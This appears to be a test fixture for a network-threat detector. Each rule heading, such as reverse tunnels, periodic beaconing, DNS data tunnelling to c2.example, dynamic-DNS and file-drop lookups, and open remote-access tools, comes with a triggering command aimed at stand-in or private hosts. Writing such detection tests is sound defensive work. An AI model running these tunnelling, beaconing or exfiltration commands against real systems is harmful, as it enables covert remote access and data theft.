## Tunnel started
#also Executable run from a scratch folder
#setup stubs /tmp/chisel
/tmp/chisel client 203.0.113.9:8080 R:socks
## Port made reachable from outside by SSH
ssh -o BatchMode=yes -N -R 2222:localhost:22 10.9.8.7
## Hidden network used
#also Executable run from a scratch folder
#setup stubs /tmp/tor
/tmp/tor -f x
## Socket of ICMP made by an untrusted program
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
## Answers taken from DNS texts
#also Code without a file asks for a name of the internet
ask_dns TXT 32 8
## Call home at regular times
#also Executable run from a scratch folder
#also Program in a scratch folder connects out
#setup cp /opt/lab/connect /tmp/agent
for n in $(seq 1 8); do /tmp/agent tcp4 203.0.113.9 443; sleep 2.5; done
## Download at regular times
#also Transfer tool given a bare address
for n in $(seq 1 8); do curl -s http://203.0.113.9/; sleep 2.5; done
## Connections at regular times
#also Code without a file connects to an address without a name
for n in $(seq 1 10); do python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 443))'; sleep 2.3; done
## Place to drop data asked for
#also Code without a file asks for a name of the internet
timeout 1 python3 -c 'import socket
q = bytes.fromhex("000101000001000000000000") + b"\x04mega\x02nz\0\0\1\0\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, ("10.9.8.1", 53))'
## Download tool started by a server
#also Shell started by a network server
server 'curl -s http://10.9.8.7/x'
## Program in a scratch folder waits for callers
#also Executable run from a scratch folder
#setup cp /opt/lab/sockets /tmp/agent
/tmp/agent bind tcp4 0.0.0.0 4447 5
## Tool for access from afar started
#setup stubs /usr/bin/tmate
tmate -F
## Tool for access from afar started by a server's command
#also Shell started by a network server
#setup stubs /usr/bin/tmate
server 'tmate -F'
## Names that don't exist asked again and again
#also Code without a file asks for a name of the internet
#setup refuse_names
ask_names 45
## Name of a service for changing addresses asked for
#also Code without a file asks for a name of the internet
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x04evil\x07duckdns\x03org\0\0\1\0\1", ("10.9.8.1", 53))'
## Packet socket of an untrusted program
#also Executable run from a scratch folder
cp /opt/lab/sockets /tmp/x; /tmp/x socket 17 3 768
## Encrypted connection opened by a server's command
#also Shell of a server connects out
#also Shell started by a network server
server 'openssl s_client -quiet -connect 203.0.113.9:443'
## Machine opened by an SSH client that trusts any server
#also Login that checks nobody's identity
#also Port made reachable from outside by SSH
ssh -o BatchMode=yes -o UserKnownHostsFile=/dev/null -N -R 2222:localhost:22 10.9.8.7
## Link to another network made by hand
ip link add vx0 type vxlan id 42 remote 203.0.113.9 dstport 4789 dev lo
## Network tools joined to a relay
#also Network tool listens for a caller
sh -c 'busybox nc -l -p 8446 < /dev/null & sleep 0.3; busybox nc -w 1 10.9.8.20 8000; kill $!'
## Proxy of sockets started by hand
#setup stubs /usr/lib/systemd/systemd-socket-proxyd
/usr/lib/systemd/systemd-socket-proxyd 10.9.8.7:80
## Transfer tool sent through a foreign proxy
#also Transfer tool given a bare address
curl -s -m 1 -x socks5h://203.0.113.9:1080 http://panel.example/
## Data passed through openssl's test client
openssl s_client -quiet -connect 203.0.113.9:443
## File fetched over TFTP from the internet
#also Transfer tool given a bare address
timeout 1 busybox tftp -g -r a -l /tmp/a 203.0.113.9
## Mail sent by a network tool
busybox nc -w 1 203.0.113.9 25
## Names without a meaning asked again and again
#also Code without a file asks for a name of the internet
python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for c in b"bcdfghjklmnp": s.sendto(bytes.fromhex("000101000001000000000000") + b"\x08q%cxzkwvt\x03com\0\0\1\0\1" % c, ("10.9.8.1", 53))'
## Encoded words put into DNS names
#also Code without a file asks for a name of the internet
python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(6): s.sendto(bytes.fromhex("000101000001000000000000") + b"\x28%040x\x02c2\x07example\0\0\1\0\1" % (n + (7 << 150)), ("10.9.8.1", 53))'
## Address asked of a public block chain
#also Code without a file asks for a name of the internet
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x07mainnet\x06infura\x02io\0\0\1\0\1", ("10.9.8.1", 53))'
## Tool for access from afar open to anybody
#setup stubs /usr/bin/code-server
code-server --bind-addr 0.0.0.0:8090 --auth none
## Service for messages or texts used by code without a file
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x07discord\x03com\0\0\1\0\1", ("10.9.8.1", 53))'
## Connections of others led on by an untrusted program
#also Code without a file waits for callers
#setup listener 80
python3 -c '
import socket
s = socket.create_server(("", 1080)); c = socket.create_connection(("10.9.8.7", 1080)); s.accept(); socket.create_connection(("10.9.8.7", 80))'
## Program in a scratch folder reaches its controller under several addresses
#also Code without a file connects to an address without a name
#setup ip route replace local 0.0.0.0/0 dev lo
python3 -c '
import socket
for n in range(1, 6): socket.socket().connect_ex(("203.0.113.%d" % n, 443))'
## Connection of an untrusted program to an unusual port
#also Executable run from a scratch folder
#also Program in a scratch folder connects out
#setup cp /opt/lab/connect /tmp/agent
/tmp/agent tcp4 203.0.113.9 8531